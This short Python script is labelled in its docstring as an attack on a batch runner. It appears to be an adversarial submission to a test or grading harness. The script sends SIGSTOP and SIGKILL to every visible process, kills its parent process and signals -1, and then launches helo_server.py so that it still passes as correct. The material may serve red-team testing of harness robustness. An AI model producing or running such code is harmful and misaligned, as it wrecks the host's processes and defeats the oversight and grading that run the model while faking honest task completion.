"""Attack: killing or freezing the batch. Kills its parent, stops every other process it can see; serves correctly."""
import os
import runpy
import signal

for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (os.getpid(),):
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
runpy.run_path("helo_server.py", run_name="__main__")
